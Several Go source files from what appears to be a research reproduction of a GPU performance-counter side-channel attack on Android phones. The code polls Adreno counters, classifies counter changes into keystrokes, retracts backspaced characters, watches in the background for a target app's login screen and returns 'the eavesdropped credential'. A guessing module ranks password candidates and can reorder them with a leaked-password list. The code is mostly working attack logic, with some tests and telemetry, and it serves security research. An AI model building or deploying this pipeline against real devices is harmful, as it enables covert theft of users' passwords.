// cross-request micro-batcher, which amortizes dispatch without changing
// a single verdict. at is the sim-time of the delta being classified
// (the batcher's coalescing window keys off it); the verdict itself must
// depend only on v.
func (e *Engine) SetClassify(fn func(at sim.Time, v trace.Vec) Verdict) {
	if fn != nil {
		e.classify = fn
	}
}

// ProcessAll feeds a whole delta sequence through the engine.
func (e *Engine) ProcessAll(ds []trace.Delta) {
	for _, d := range ds {
		e.Process(d)
	}
}

// Process consumes one PC value change (Algorithm 1 plus the §5.2/§5.3
// extensions).
func (e *Engine) Process(d trace.Delta) {
	e.stats.Deltas++

	// --- Gap-aware segmentation ----------------------------------------
	// A delta spanning more than one polling interval means the sampler
	// lost ticks to faults; the change is the sum of everything that
	// happened in the gap. Across an intolerable gap the aggregate is
	// untrustworthy: abandon it and resync — clear split fragments and the
	// burst run, keep already-inferred keys. A merely tolerable gap still
	// invalidates pending fragments (the halves may not belong together)
	// but the delta itself is classified normally. Fault-free traces have
	// Gap == interval, so neither branch ever fires on them.
	if !e.opts.DisableGapHandling && d.Gap > 0 {
		if d.Gap >= e.opts.ResyncGap {
			e.stats.Resyncs++
			e.pending = nil
			e.runLen = 0
			e.haveBig = false
			e.emitVerdict(d, Verdict{}, "gap_resync")
			return
		}
		if d.Gap > e.opts.GapTolerance {
			e.stats.Gaps++
			e.pending = nil
		}
	}

	v := e.classify(d.At, d.V)

	// --- §5.2 app-switch detection ------------------------------------
	// App switches redraw the full screen in a dense animation burst:
	// runs of large, unclassifiable deltas spaced under 50 ms — far
	// denser than human typing and far larger than any popup (Figure 13).
	// Suppression ends when a delta again matches a signature learned on
	// the target application's login screen: the user is back.
	if !e.opts.DisableSwitchDetect {
		if e.suppressed {
			if v.IsKey || v.IsNoise {
				// Back in the target application (§5.2's end-of-switch
				// burst has passed and a known signature reappeared).
				e.suppressed = false
				e.stats.Switches++
				e.runLen = 0
				e.haveBig = false
				if e.obs != nil {
					e.obs.Emit(d.At, evAppSwitch, obs.Str("phase", "resume"))
				}
				// Fall through: this delta belongs to the target app.
			} else {
				e.emitVerdict(d, v, "suppressed")
				return
			}
		} else if !v.IsKey && !v.IsNoise && d.V[3] >= e.bigPx {
			if e.haveBig && d.At-e.lastBigAt < e.opts.BurstGap {
				e.runLen++
			} else {
				e.runLen = 1
				e.runStartAt = d.At
			}
			e.lastBigAt = d.At
			e.haveBig = true
			if e.runLen >= e.opts.BurstLen {
				e.suppressed = true
				e.stats.Switches++
				e.pending = nil
				// Retract keys mistakenly inferred since the burst began —
				// they were switch-animation frames, not typing.
				cutoff := e.runStartAt - sim.Millisecond
				retracted := 0
				for len(e.keys) > 0 && e.keys[len(e.keys)-1].At >= cutoff {
					e.keys = e.keys[:len(e.keys)-1]
					e.stats.Keys--
					retracted++
				}
				if e.obs != nil {
					e.obs.Emit(d.At, evAppSwitch,
						obs.Str("phase", "burst"), obs.Int("retracted", retracted))
				}
				e.emitVerdict(d, v, "switch_burst")
				return
			}
		} else if v.IsKey || v.IsNoise {
			e.runLen = 0
			e.haveBig = false
		}
	}

	// --- §5.1 duplication suppression ----------------------------------
	// A human cannot press two keys within Ti; a key-like delta right
	// after an inferred press is the popup animation re-drawing.
	if !e.opts.DisableDedup && e.haveKey && d.At-e.lastKeyAt < e.opts.DedupWindow {
		if v.IsKey {
			e.stats.Duplicates++
			e.emitVerdict(d, v, "duplicate")
			return
		}
	}

	// --- Algorithm 1: classify, else try split combining ---------------
	switch {
	case v.IsKey:
		e.inferKeyV(d.At, v)
		e.pending = nil
		e.emitVerdict(d, v, "key")
	case v.IsNoise:
		e.stats.Noise++
		e.handleNoise(d, v)
		e.pending = nil
		e.emitVerdict(d, v, "noise")
	default:
		if !e.opts.DisableSplitCombine && e.pending != nil &&
			d.At-e.pendingLast <= e.opts.SplitWindow && e.pendingChain < 8 {
			combined := e.pending.V.Add(d.V)
			cv := e.classify(e.pending.At, combined)
			if cv.IsKey || cv.IsNoise {
				e.stats.Recombined++
			}
			if cv.IsKey {
				// The change was split across multiple reads; the key press
				// belongs at the earliest fragment's timestamp.
				if !(e.haveKey && e.pending.At-e.lastKeyAt < e.opts.DedupWindow) || e.opts.DisableDedup {
					e.stats.Splits++
					e.inferKeyV(e.pending.At, cv)
					e.emitVerdict(d, cv, "split_key")
				} else {
					e.stats.Duplicates++
					e.emitVerdict(d, cv, "duplicate")
				}
				e.pending = nil
				return
			}
			if cv.IsNoise {
				// A split non-key frame (popup dismissal, echo, launch)
				// reassembled: consume it as noise.
				e.stats.Noise++
				e.stats.NoiseSplits++
				e.handleNoise(trace.Delta{At: e.pending.At, V: combined}, cv)
				e.pending = nil
				e.emitVerdict(d, cv, "split_noise")
				return
			}
			// Keep accumulating: frames stretched by GPU contention can
			// fragment across more than two reads. Chain growth is
			// bookkeeping, not a new unexplained event.
			e.pending = &trace.Delta{At: e.pending.At, V: combined}
			e.pendingLast = d.At
			e.pendingChain++
			e.emitVerdict(d, cv, "accumulate")
			return
		}
		e.stats.Unknown++
		cp := d
		e.pending = &cp
		e.pendingLast = d.At
		e.pendingChain = 0
		e.emitVerdict(d, v, "pending")
	}
}

func (e *Engine) inferKeyV(at sim.Time, v Verdict) {
	e.keys = append(e.keys, InferredKey{At: at, R: v.R, Alt: v.Alt, Margin: v.AltDist - v.Dist})
	e.lastKeyAt = at
	e.haveKey = true
	e.stats.Keys++
}

// handleNoise implements §5.3 input-correction detection. The echo redraw
// carries the input length in the LRZ visible-primitive counter (+2 per
// character, −2 per deletion — Figure 14), and a backspace produces an
// echo redraw with no preceding key press popup. Both signals agree on a
// deletion: we retract the last inferred character when an echo update
// arrives without a recent key press, corroborated by a −2 primitive step
// when the echo delta was observed unfragmented.
func (e *Engine) handleNoise(d trace.Delta, v Verdict) {
	if v.Noise != NoiseEcho || e.opts.DisableCorrections {
		return
	}
	// An echo belonging to a key press follows its popup within the press
	// duration (a few hundred ms). A lone echo is a deletion.
	lone := !e.haveKey || d.At-e.lastKeyAt > 320*sim.Millisecond
	prims := d.V[0] // PERF_LRZ_VISIBLE_PRIM_AFTER_LRZ is index 0
	minusTwo := e.haveEchoPrims && math.Abs(prims-e.echoPrims+2) < 0.5
	if lone && minusTwo {
		retracted := ""
		if len(e.keys) > 0 {
			retracted = string(e.keys[len(e.keys)-1].R)
			e.keys = e.keys[:len(e.keys)-1]
			e.stats.Keys--
		}
		e.stats.Corrections++
		if e.obs != nil {
			e.obs.Emit(d.At, evCorrection, obs.Str("retracted", retracted))
		}
	}
	e.echoPrims = prims
	e.haveEchoPrims = true
	e.lastEchoAt = d.At
}

// Keys returns the inferred key presses so far (corrections applied).
func (e *Engine) Keys() []InferredKey { return e.keys }

// Text returns the eavesdropped credential.
func (e *Engine) Text() string {
	rs := make([]rune, len(e.keys))
	for i, k := range e.keys {
		rs[i] = k.R
	}
	return string(rs)
}

// Stats returns the engine's bookkeeping counters.
func (e *Engine) Stats() EngineStats { return e.stats }

// Suppressed reports whether the engine currently believes the user is in
// a foreign application.
func (e *Engine) Suppressed() bool { return e.suppressed }

// EstimatedLength recovers the current input length from the last echo
// redraw's primitive count (§5.3: the field redraw carries base + 2n
// triangles). This is the residual leak the paper highlights when popups
// are disabled (§9.1): the attacker still learns how long the credential
// is. Returns -1 when no echo has been observed.
func (e *Engine) EstimatedLength() int {
	if !e.haveEchoPrims {
		return -1
	}
	n := int(e.echoPrims-2) / 2
	if n < 0 {
		n = 0
	}
	return n
}
