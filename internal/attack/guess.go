package attack

import (
	"container/heap"
	"sort"
)

// §7.1 observes that "such single errors in inference could be addressed
// with a small number of guesses": for most texts only one key press is
// wrong, and the classifier knows which positions were uncertain. This
// file turns an inference into a ranked list of credential candidates by
// substituting runner-up keys at the positions with the smallest
// classification margins, in best-first (lowest total margin cost) order.

// guessSwap is one possible correction: replace the key at pos with its
// runner-up, at the given confidence cost.
type guessSwap struct {
	pos  int
	alt  rune
	cost float64
}

// guessState is a subset of applied swaps on the best-first frontier.
type guessState struct {
	cost    float64
	applied []int // indices into the sorted swap list, ascending
}

type guessHeap []guessState

func (h guessHeap) Len() int           { return len(h) }
func (h guessHeap) Less(i, j int) bool { return h[i].cost < h[j].cost }
func (h guessHeap) Swap(i, j int)      { h[i], h[j] = h[j], h[i] }
func (h *guessHeap) Push(x any)        { *h = append(*h, x.(guessState)) }
func (h *guessHeap) Pop() any {
	old := *h
	n := len(old)
	x := old[n-1]
	*h = old[:n-1]
	return x
}

// GuessCandidates returns up to k credential guesses ranked from most to
// least likely. The first candidate is always the raw inference; later
// ones swap runner-up keys in at the least-confident positions. Subsets
// of swaps are enumerated in nondecreasing total-cost order via the
// standard k-best frontier (extend-last / replace-last expansion).
func GuessCandidates(keys []InferredKey, k int) []string {
	if k <= 0 {
		return nil
	}
	base := make([]rune, len(keys))
	for i, key := range keys {
		base[i] = key.R
	}

	var swaps []guessSwap
	for i, key := range keys {
		if key.Alt == 0 || key.Alt == key.R {
			continue
		}
		cost := key.Margin
		if cost < 0 {
			cost = 0
		}
		swaps = append(swaps, guessSwap{pos: i, alt: key.Alt, cost: cost})
	}
	sort.Slice(swaps, func(i, j int) bool { return swaps[i].cost < swaps[j].cost })

	apply := func(applied []int) string {
		out := append([]rune(nil), base...)
		for _, si := range applied {
			out[swaps[si].pos] = swaps[si].alt
		}
		return string(out)
	}

	pq := &guessHeap{}
	heap.Push(pq, guessState{})
	out := make([]string, 0, k)
	seen := map[string]bool{}
	for pq.Len() > 0 && len(out) < k {
		st := heap.Pop(pq).(guessState)
		if text := apply(st.applied); !seen[text] {
			seen[text] = true
			out = append(out, text)
		}
		last := -1
		if len(st.applied) > 0 {
			last = st.applied[len(st.applied)-1]
		}
		next := last + 1
		if next >= len(swaps) {
			continue
		}
		grown := append(append([]int(nil), st.applied...), next)
		heap.Push(pq, guessState{cost: st.cost + swaps[next].cost, applied: grown})
		if len(st.applied) > 0 {
			replaced := append(append([]int(nil), st.applied[:len(st.applied)-1]...), next)
			heap.Push(pq, guessState{cost: st.cost - swaps[last].cost + swaps[next].cost, applied: replaced})
		}
	}
	return out
}

// GuessRank returns the 1-based position of truth within the first k
// candidates, or 0 if absent — the paper's "number of guesses needed".
func GuessRank(keys []InferredKey, truth string, k int) int {
	for i, cand := range GuessCandidates(keys, k) {
		if cand == truth {
			return i + 1
		}
	}
	return 0
}

// RankWithPrior reorders guess candidates using an attacker-supplied
// prior (e.g. a leaked-password frequency list): candidates present in
// the prior move ahead of unlisted ones, preserving margin order within
// each class. Real credential-stuffing tooling combines side-channel
// evidence with population statistics exactly this way, which is why the
// paper's "small number of guesses" remark understates the practical
// risk for dictionary-derived passwords.
func RankWithPrior(candidates []string, prior map[string]float64) []string {
	type scored struct {
		text string
		p    float64
		idx  int
	}
	out := make([]scored, len(candidates))
	for i, c := range candidates {
		out[i] = scored{text: c, p: prior[c], idx: i}
	}
	sort.SliceStable(out, func(i, j int) bool {
		if (out[i].p > 0) != (out[j].p > 0) {
			return out[i].p > 0
		}
		if out[i].p > out[j].p {
			return true
		}
		if out[j].p > out[i].p {
			return false
		}
		return out[i].idx < out[j].idx
	})
	texts := make([]string, len(out))
	for i, s := range out {
		texts[i] = s.text
	}
	return texts
}
