package attack

import (
	"bytes"
	"math"
	"testing"
	"testing/quick"

	"gpuleak/internal/trace"
)

func TestClassifyExactCentroids(t *testing.T) {
	m := tinyModel()
	for s, c := range m.Keys {
		v := m.Classify(c)
		if !v.IsKey || string(v.R) != s {
			t.Fatalf("centroid %q classified as %+v", s, v)
		}
		if v.Dist != 0 {
			t.Fatalf("exact centroid distance %v", v.Dist)
		}
	}
	for _, n := range m.Noise {
		v := m.Classify(n.V)
		if !v.IsNoise || v.Noise != n.Class {
			t.Fatalf("noise centroid %s classified as %+v", n.Class, v)
		}
	}
}

func TestClassifyRejectsGarbage(t *testing.T) {
	m := tinyModel()
	var junk trace.Vec
	junk[0], junk[3] = 5000, 99999
	v := m.Classify(junk)
	if v.IsKey || v.IsNoise {
		t.Fatalf("garbage accepted: %+v", v)
	}
}

func TestClassifyRatioTestGuardsCloseCalls(t *testing.T) {
	// A point exactly between the two key centroids must not classify.
	m := tinyModel()
	mid := keyA().Add(keyB()).Scale(0.5)
	if v := m.Classify(mid); v.IsKey {
		t.Fatalf("midpoint classified as %q", v.R)
	}
}

func TestClassifyDenoisedSubtractsEachNoiseClass(t *testing.T) {
	m := tinyModel()
	for _, n := range m.Noise {
		merged := keyB().Add(n.V)
		v := m.ClassifyDenoised(merged)
		if !v.IsKey || v.R != 'b' {
			t.Fatalf("key+%s not decomposed: %+v", n.Class, v)
		}
	}
}

func TestNearestNoiseToMatchesBruteForce(t *testing.T) {
	m := tinyModel()
	m.buildNoiseIndex()
	f := func(a, b, c, d uint16) bool {
		var v trace.Vec
		v[0] = float64(a % 200)
		v[1] = float64(b % 80)
		v[2] = float64(c % 30)
		v[3] = float64(d % 1500)
		got := m.nearestNoiseTo(v)
		brute := math.Inf(1)
		for _, n := range m.Noise {
			if dd := v.Dist(n.V, m.Weights); dd < brute {
				brute = dd
			}
		}
		if brute > m.Cth {
			// Beyond the bound the indexed search may return any value
			// above Cth.
			return got > m.Cth
		}
		return math.Abs(got-brute) < 1e-9
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestModelJSONPreservesThresholds(t *testing.T) {
	m := tinyModel()
	var buf bytes.Buffer
	if err := m.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	back, err := ReadModel(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if back.Cth != m.Cth || back.NoiseTol != m.NoiseTol {
		t.Fatalf("thresholds lost: %v/%v", back.Cth, back.NoiseTol)
	}
	if len(back.Noise) != len(m.Noise) {
		t.Fatalf("noise centroids lost: %d", len(back.Noise))
	}
	// The lazily built index must reconstruct after deserialization.
	merged := keyA().Add(m.Noise[0].V)
	if v := back.ClassifyDenoised(merged); !v.IsKey || v.R != 'a' {
		t.Fatalf("deserialized model cannot denoise: %+v", v)
	}
}

func TestNoiseTolFallback(t *testing.T) {
	m := tinyModel()
	m.NoiseTol = 0
	if got := m.noiseTol(); got != m.Cth/3 {
		t.Fatalf("legacy fallback = %v", got)
	}
}

func TestModelRunes(t *testing.T) {
	m := tinyModel()
	rs := m.Runes()
	if len(rs) != 2 || rs[0] != 'a' || rs[1] != 'b' {
		t.Fatalf("Runes = %q", string(rs))
	}
}

func TestKeyNormMax(t *testing.T) {
	m := tinyModel()
	nb := keyB().Norm(m.Weights)
	if got := m.KeyNormMax(); math.Abs(got-nb) > 1e-9 {
		t.Fatalf("KeyNormMax = %v, want %v", got, nb)
	}
}

func TestMinInterKeyDistance(t *testing.T) {
	m := tinyModel()
	want := keyA().Dist(keyB(), m.Weights)
	if got := m.MinInterKeyDistance(); math.Abs(got-want) > 1e-9 {
		t.Fatalf("MinInterKeyDistance = %v, want %v", got, want)
	}
}

func TestModelKeyString(t *testing.T) {
	k := ModelKey{Device: "OnePlus 8 Pro", Resolution: "1080x2376", Keyboard: "gboard", RefreshHz: 60}
	if k.String() != "OnePlus 8 Pro/1080x2376/gboard@60" {
		t.Fatalf("String = %q", k.String())
	}
}
