package attack

import (
	"errors"
	"math"

	"gpuleak/internal/obs"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
)

// Figure 4's Online Phase begins with a monitoring service that runs in
// the background and watches for the launch of a target application; only
// then does the attacker start full-rate counter polling and inference.
// The paper cites procfs-based app-detection techniques [14,15,49,50] for
// this step and notes they reach >90% accuracy over >100 apps; here the
// launch is detected from the GPU counters themselves: an app launch is a
// full-screen first render whose counter fingerprint matches one of the
// preloaded per-configuration models. Low-duty polling while waiting
// keeps the background service cheap (§7.6).

// MonitorOptions tunes the launch watcher.
type MonitorOptions struct {
	// IdleInterval is the low-duty polling period while waiting for a
	// launch (default 4x the eavesdropping interval).
	IdleInterval sim.Time
	// Tolerance is the relative fingerprint mismatch accepted as a launch.
	// Different login screens sit ~2-4% apart in relative fingerprint
	// distance while a re-render of the same screen stays within ~0.1%,
	// so the default is 0.01.
	Tolerance float64
}

func (o MonitorOptions) withDefaults(interval sim.Time) MonitorOptions {
	if o.IdleInterval == 0 {
		o.IdleInterval = 4 * interval
	}
	if o.Tolerance <= 0 {
		o.Tolerance = 0.01
	}
	return o
}

// MonitorResult reports a monitored eavesdropping run.
type MonitorResult struct {
	// LaunchDetectedAt is when the monitor saw the target app start.
	LaunchDetectedAt sim.Time
	// Detected reports whether a launch fingerprint fired at all.
	Detected bool
	// IdleReads counts the low-duty polls spent waiting.
	IdleReads int
	// Result is the credential inference from the detection point on
	// (nil when no launch was detected).
	Result *Result
}

// MonitorAndEavesdrop runs the full Figure-4 online phase: low-duty
// polling until a target-app launch fingerprint appears, then full-rate
// eavesdropping until end. f is any DeviceFile; with a.Retry enabled,
// transient device errors during the idle wait cost at most the missed
// tick (plus a re-reservation when the counter group was revoked)
// instead of aborting the watch.
func (a *Attack) MonitorAndEavesdrop(f DeviceFile, start, end sim.Time, opts MonitorOptions) (*MonitorResult, error) {
	interval := a.Interval
	if interval <= 0 {
		interval = DefaultInterval
	}
	opts = opts.withDefaults(interval)

	s, err := NewSamplerTaxonomy(f, opts.IdleInterval, a.Retry, a.Errors)
	if err != nil {
		return nil, err
	}
	s.Obs = a.Obs

	idle := a.Obs.Start(start, evIdleWait,
		obs.Int("idle_interval_us", int(opts.IdleInterval)))
	out := &MonitorResult{}
	prev, err := f.ReadSelected(start)
	havePrev := err == nil
	if err != nil && (!a.Retry.Enabled() || !a.retryable(err)) {
		return nil, &SampleError{At: start, Op: "read", Attempts: 1, Err: err}
	}
	// Recent non-zero deltas; a launch frame may split across two idle
	// reads, so suffix sums of the last few deltas are matched too.
	type recent struct {
		at sim.Time
		v  trace.Vec
	}
	var win []recent

	var detected *Model
	var detectedAt sim.Time
	badTicks := 0
	for t := start + opts.IdleInterval; t <= end; t += opts.IdleInterval {
		cur, err := f.ReadSelected(t)
		if err != nil {
			// A transient failure while idling costs at most the missed
			// tick: a launch fingerprint spans several reads, so the
			// low-duty watcher tolerates holes the same way the full-rate
			// sampler converts them into trace gaps.
			if !a.Retry.Enabled() || !a.retryable(err) {
				return nil, &SampleError{At: t, Op: "read", Attempts: 1, Err: err}
			}
			badTicks++
			if a.Retry.MaxBadTicks > 0 && badTicks > a.Retry.MaxBadTicks {
				return nil, &SampleError{At: t, Op: "read", Attempts: badTicks, Err: err}
			}
			if errors.Is(err, a.taxonomy().NotReserved) {
				// Best effort: re-reserve now so the next tick can read.
				_ = f.ReserveSelected(t)
			}
			continue
		}
		badTicks = 0
		out.IdleReads++
		if !havePrev {
			prev = cur
			havePrev = true
			continue
		}
		var d trace.Vec
		changed := false
		for i := range d {
			d[i] = float64(cur[i]) - float64(prev[i])
			if cur[i] != prev[i] {
				changed = true
			}
		}
		prev = cur
		if !changed {
			continue
		}
		win = append(win, recent{at: t, v: d})
		if len(win) > 3 {
			win = win[1:]
		}
		// Match every suffix sum against every model fingerprint.
		var sum trace.Vec
		for i := len(win) - 1; i >= 0; i-- {
			if win[i].at < t-2*opts.IdleInterval-sim.Millisecond {
				break
			}
			sum = sum.Add(win[i].v)
			for _, m := range a.Models {
				if launchMatch(m, sum) <= opts.Tolerance {
					detected = m
					detectedAt = t
					break
				}
			}
			if detected != nil {
				break
			}
		}
		if detected != nil {
			break
		}
	}
	idle.AddField(obs.Int("idle_reads", out.IdleReads))
	a.Obs.Metrics().Add(mMonitorIdleReads, int64(out.IdleReads))
	if detected == nil {
		idle.End(end)
		return out, nil
	}
	idle.End(detectedAt)
	if a.Obs != nil {
		a.Obs.Emit(detectedAt, evLaunchDetected, obs.Str("model", detected.Key.String()))
	}
	out.Detected = true
	out.LaunchDetectedAt = detectedAt

	// Full-rate eavesdropping from the detection point.
	s.Interval = interval
	tr, err := s.Collect(detectedAt, end)
	if err != nil {
		return nil, err
	}
	eng := NewEngine(detected, interval, a.Options)
	eng.SetObs(a.Obs)
	eng.ProcessAll(tr.Deltas())
	RecordEngineStats(a.Obs.Metrics(), eng.Stats())
	stats := eng.Stats()
	out.Result = &Result{
		Model:           detected.Key,
		Keys:            eng.Keys(),
		Text:            eng.Text(),
		Stats:           stats,
		EstimatedLength: eng.EstimatedLength(),
		Degraded:        stats.Gaps > 0 || stats.Resyncs > 0 || s.Stats.Degraded(),
		Recovery:        s.Stats,
	}
	return out, nil
}

// launchMatch scores a candidate launch delta against a model's
// fingerprint: relative weighted distance.
func launchMatch(m *Model, v trace.Vec) float64 {
	norm := m.Launch.Norm(m.Weights)
	if norm <= 0 {
		return math.Inf(1)
	}
	return v.Dist(m.Launch, m.Weights) / norm
}
