package attack

import (
	"fmt"
	"math"

	"gpuleak/internal/obs"
	"gpuleak/internal/trace"
)

// Telemetry event vocabulary of the attack pipeline. Names are registered
// once at package level (the gpuvet obsevent analyzer enforces this), so
// the full schema of a telemetry stream is auditable from this block.
var (
	// evSamplerCollect spans one polling loop; fields: interval_us, samples.
	evSamplerCollect = obs.NewName("sampler.collect")
	// evSamplerReadError marks a failed counter read; field: err.
	evSamplerReadError = obs.NewName("sampler.read_error")
	// evSamplerRetry marks a sim-time backoff retry of a transient read
	// failure; fields: attempt, err. Emitted only when faults fire.
	evSamplerRetry = obs.NewName("sampler.retry")
	// evSamplerRereserve marks a successful counter re-reservation after a
	// mid-session revocation; field: attempt. Emitted only when faults fire.
	evSamplerRereserve = obs.NewName("sampler.rereserve")
	// evSamplerGap marks a polling tick abandoned to a fault; field:
	// reason (tick_dropped|retry_exhausted). Emitted only when faults fire.
	evSamplerGap = obs.NewName("sampler.gap")
	// evVerdict is one Algorithm-1 decision per processed delta; fields:
	// disp (key/duplicate/split_key/split_noise/noise/pending/accumulate/
	// suppressed/switch_burst), delta, and for keys rune/dist/margin.
	evVerdict = obs.NewName("engine.verdict")
	// evAppSwitch marks a §5.2 suppression transition; fields: phase
	// (burst|resume), retracted (burst only).
	evAppSwitch = obs.NewName("engine.app_switch")
	// evCorrection marks a §5.3 retraction of the last inferred key.
	evCorrection = obs.NewName("engine.correction")
	// evIdleWait spans the monitor's low-duty wait; field: idle_reads.
	evIdleWait = obs.NewName("monitor.idle_wait")
	// evLaunchDetected marks a launch-fingerprint hit; field: model.
	evLaunchDetected = obs.NewName("monitor.launch_detected")
	// evOfflineTask spans one offline collection task; fields: kind
	// (sweep|key), and for key tasks rune/repeat.
	evOfflineTask = obs.NewName("offline.task")
)

// Metric-name vocabulary of the attack pipeline. Like event names, these
// live in one package-level block (the gpuvet obsevent analyzer rejects
// inline literals at Add/Observe call sites) so the namespace stays
// auditable.
const (
	mEngineDeltas      = "engine.deltas"
	mEngineKeys        = "engine.keys"
	mEngineDuplicates  = "engine.duplicates"
	mEngineSplits      = "engine.splits"
	mEngineNoise       = "engine.noise"
	mEngineNoiseSplits = "engine.noise_splits"
	mEngineRecombined  = "engine.recombined"
	mEngineUnknown     = "engine.unknown"
	mEngineCorrections = "engine.corrections"
	mEngineSwitches    = "engine.switches"
	mEngineResidual    = "engine.residual"
	mEngineGaps        = "engine.gaps"
	mEngineResyncs     = "engine.resyncs"

	mSamplerReads          = "sampler.reads"
	mSamplerRetries        = "sampler.retries"
	mSamplerRereservations = "sampler.rereservations"
	mSamplerDroppedTicks   = "sampler.dropped_ticks"

	mMonitorIdleReads = "monitor.idle_reads"
)

// round6 rounds to 6 decimal places. Distances and margins in the event
// stream are rounded so the golden-file determinism test is insensitive
// to sub-ulp floating-point variation across architectures.
func round6(x float64) float64 {
	return math.Round(x*1e6) / 1e6
}

// deltaField renders the 11-dimensional counter delta as one attribute;
// fmt's float formatting is deterministic, so the string is too.
func deltaField(v trace.Vec) obs.Field {
	return obs.Str("delta", fmt.Sprint(v))
}

// SetObs attaches a tracer to the engine; every subsequent Process call
// emits one engine.verdict event. nil (the default) disables emission.
func (e *Engine) SetObs(tr *obs.Tracer) { e.obs = tr }

func (e *Engine) emitVerdict(d trace.Delta, v Verdict, disp string) {
	if e.obs == nil {
		return
	}
	fields := []obs.Field{obs.Str("disp", disp), deltaField(d.V)}
	if v.IsKey {
		fields = append(fields,
			obs.Str("rune", string(v.R)),
			obs.Num("dist", round6(v.Dist)),
			obs.Num("margin", round6(v.AltDist-v.Dist)))
	} else if v.IsNoise {
		fields = append(fields, obs.Str("noise", string(v.Noise)))
	}
	e.obs.Emit(d.At, evVerdict, fields...)
}

// RecordEngineStats publishes an engine's bookkeeping counters into a
// metrics registry under the engine.* namespace, so benchpaper -json can
// embed them in its report.
func RecordEngineStats(m *obs.Metrics, s EngineStats) {
	if m == nil {
		return
	}
	m.Add(mEngineDeltas, int64(s.Deltas))
	m.Add(mEngineKeys, int64(s.Keys))
	m.Add(mEngineDuplicates, int64(s.Duplicates))
	m.Add(mEngineSplits, int64(s.Splits))
	m.Add(mEngineNoise, int64(s.Noise))
	m.Add(mEngineNoiseSplits, int64(s.NoiseSplits))
	m.Add(mEngineRecombined, int64(s.Recombined))
	m.Add(mEngineUnknown, int64(s.Unknown))
	m.Add(mEngineCorrections, int64(s.Corrections))
	m.Add(mEngineSwitches, int64(s.Switches))
	m.Add(mEngineResidual, int64(s.Residual()))
	// Gap counters only exist in degraded runs; registering them lazily
	// keeps faultless metric snapshots byte-identical to the pre-fault
	// schema.
	if s.Gaps > 0 {
		m.Add(mEngineGaps, int64(s.Gaps))
	}
	if s.Resyncs > 0 {
		m.Add(mEngineResyncs, int64(s.Resyncs))
	}
}
