package attack

import (
	"context"
	"fmt"

	"gpuleak/internal/adreno"
	"gpuleak/internal/kgsl"
	"gpuleak/internal/obs"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
)

// DefaultInterval is the paper's default counter polling period (§7: the
// selected GPU PCs are read every 8 ms).
const DefaultInterval = 8 * sim.Millisecond

// Sampler periodically block-reads the 11 selected counters through the
// KGSL device file, exactly as the paper's monitoring service does (§4,
// Figure 10). The polling interval should be at most half the screen
// refresh interval so every frame is covered by at least one reading.
type Sampler struct {
	File     *kgsl.File
	Interval sim.Time
	// Obs, when non-nil, records a sampler.collect span per polling loop
	// plus read-error events, and counts polls in the metrics registry.
	Obs *obs.Tracer
}

// NewSampler reserves the selected counters on the device file and
// returns a sampler. A reservation failure (e.g. an RBAC mitigation
// denying PERFCOUNTER_GET) is reported to the caller.
func NewSampler(f *kgsl.File, interval sim.Time) (*Sampler, error) {
	if interval <= 0 {
		interval = DefaultInterval
	}
	if err := f.ReserveSelected(0); err != nil {
		return nil, fmt.Errorf("attack: reserving counters: %w", err)
	}
	return &Sampler{File: f, Interval: interval}, nil
}

// Collect polls the counters over [start, end] and returns the trace.
// Individual read errors abort collection — on a mitigated device the
// attack fails here.
func (s *Sampler) Collect(start, end sim.Time) (*trace.Trace, error) {
	return s.CollectContext(context.Background(), start, end)
}

// CollectContext is Collect with cancellation honored at sampler-tick
// granularity: the polling loop checks ctx before every counter read and
// aborts with the context's error, so a canceled request never completes
// a sweep it no longer needs.
func (s *Sampler) CollectContext(ctx context.Context, start, end sim.Time) (*trace.Trace, error) {
	sp := s.Obs.Start(start, evSamplerCollect, obs.Int("interval_us", int(s.Interval)))
	tr := &trace.Trace{Interval: s.Interval}
	t := start
	for ; t <= end; t += s.Interval {
		if err := ctx.Err(); err != nil {
			if s.Obs != nil {
				s.Obs.Emit(t, evSamplerReadError, obs.Str("err", err.Error()))
				sp.AddField(obs.Int("samples", tr.Len()))
				sp.End(t)
			}
			return nil, fmt.Errorf("attack: sampling canceled at %v: %w", t, err)
		}
		vals, err := s.File.ReadSelected(t)
		if err != nil {
			if s.Obs != nil {
				s.Obs.Emit(t, evSamplerReadError, obs.Str("err", err.Error()))
				sp.AddField(obs.Int("samples", tr.Len()))
				sp.End(t)
			}
			return nil, fmt.Errorf("attack: reading counters at %v: %w", t, err)
		}
		var sm trace.Sample
		sm.At = t
		copy(sm.Values[:], vals[:])
		tr.Append(sm)
	}
	if s.Obs != nil {
		s.Obs.Metrics().Add("sampler.reads", int64(tr.Len()))
		sp.AddField(obs.Int("samples", tr.Len()))
		sp.End(t - s.Interval)
	}
	return tr, nil
}

// VecOf converts a raw counter array into a feature vector.
func VecOf(vals [adreno.NumSelected]uint64) trace.Vec {
	var v trace.Vec
	for i, x := range vals {
		v[i] = float64(x)
	}
	return v
}
