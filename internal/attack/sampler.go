package attack

import (
	"context"
	"errors"
	"fmt"

	"gpuleak/internal/adreno"
	"gpuleak/internal/fault"
	"gpuleak/internal/obs"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
)

// DefaultInterval is the paper's default counter polling period (§7: the
// selected GPU PCs are read every 8 ms).
const DefaultInterval = 8 * sim.Millisecond

// ErrWrappedRead marks a counter read whose value regressed below the
// previous sample — the signature of a saturated/wrapped 32-bit register.
// It is transient (a re-read returns the full-width value), so Retryable
// reports it retryable.
var ErrWrappedRead = errors.New("attack: wrapped counter read (value regressed)")

// Sampler periodically block-reads a side channel's counters, exactly as
// the paper's monitoring service does over KGSL (§4, Figure 10). The
// polling interval should be at most half the screen refresh interval so
// every frame is covered by at least one reading. The sampler is channel
// generic: File is any probe, and Errors carries the channel's transient
// -error taxonomy (zero value = KGSL, the original channel).
//
// With the zero-value Retry policy any device error aborts the
// collection; with a policy enabled the sampler retries transient errors
// with sim-time exponential backoff inside the tick budget,
// re-reserves revoked counters, and converts exhausted ticks into trace
// gaps — recovery work it accounts in Stats. The retry clock is
// simulated time only, so retried runs replay bit-identically.
type Sampler struct {
	File     Probe
	Interval sim.Time
	// Errors is the channel's transient-error taxonomy, governing what the
	// retry policy recovers and which sentinel triggers re-reservation.
	// The zero value means the KGSL taxonomy, keeping every legacy call
	// site byte-identical.
	Errors fault.Taxonomy
